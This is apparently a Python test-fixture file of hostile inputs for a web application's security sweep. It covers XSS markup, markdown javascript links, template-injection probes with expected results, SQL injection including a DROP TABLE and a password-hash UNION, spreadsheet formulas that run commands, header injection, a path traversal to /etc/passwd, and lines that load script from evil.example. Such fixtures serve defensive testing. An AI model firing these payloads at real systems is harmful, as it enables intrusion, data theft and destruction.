"""Hostile input for the security sweep: XSS, template and SQL injection, spreadsheet formulas,
header injection, control characters. Every entry is a plain string, sent as a user would type it."""
from __future__ import annotations

# Markup that would run script, load a frame or restyle the page if it reached the HTML unescaped.
XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" alt=\"\" onerror=\"alert(1)\"/>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' onfocus='alert(1)' autofocus='",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "'-alert(1)-'",
    "\";alert(1);//",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"jAvAsCrIpT:alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<scr<script>ipt>alert(1)</script>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<form action=\"javascript:alert(1)\"><button formaction=\"javascript:alert(1)\">x</button></form>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
]

# Markdown that turns into dangerous links or images if the renderer or sanitiser lets it.
MARKDOWN = [
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](x \"onerror=alert(1)\")",
    "[x](https://example.com \"title\" onmouseover=\"alert(1)\")",
    "[a](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
]

# Template injection: rendered literally, the marker text around the expression survives; evaluated,
# the page would show the TEMPLATE_RESULTS text instead.
TEMPLATE = [
    "tpl-a{{7*7}}tpl-a",
    "tpl-b{% if 1 %}yes{% endif %}tpl-b",
    "tpl-c${7*7}tpl-c",
    "tpl-d#{7*7}tpl-d",
    "tpl-e{{config.SECRET_KEY}}tpl-e",
]
TEMPLATE_RESULTS = ["tpl-a49tpl-a", "tpl-byestpl-b", "tpl-c49tpl-c", "tpl-d49tpl-d", "test-only-not-secret"]

SQL = [
    "' OR 1=1 --",
    "\"; DROP TABLE users; --",
    "admin'--",
    "1; SELECT pg_sleep(5); --",
    "' UNION SELECT password_hash FROM users --",
    "%' AND name LIKE '%",
]

# Cells a spreadsheet would run as formulas (OWASP CSV injection).
FORMULAS = [
    "=HYPERLINK(\"https://evil.example\",\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

# Header injection, control characters, very long and bidirectional Unicode.
ODD = [
    "x\r\nSet-Cookie: injected=1",
    "x\nX-Injected: 1",
    "nul\x00byte",
    "\u202eevil\u202c.pdf.exe",
    "\u202egnp.exe",
    "Ş" * 5000,
    "😀" * 300,
    "a\u0000<script>alert(1)</script>",
    "../../../etc/passwd",
]

# Numbers no form expects: not-a-number, infinities, beyond any database integer, other digits.
NUMBERS = [
    "NaN",
    "sNaN",
    "-Infinity",
    "1e999999",
    "99999999999999999999",
    "-99999999999999999999",
    "0x10",
    "１２",
]

ALL = XSS + MARKDOWN + TEMPLATE + SQL + FORMULAS + ODD + NUMBERS
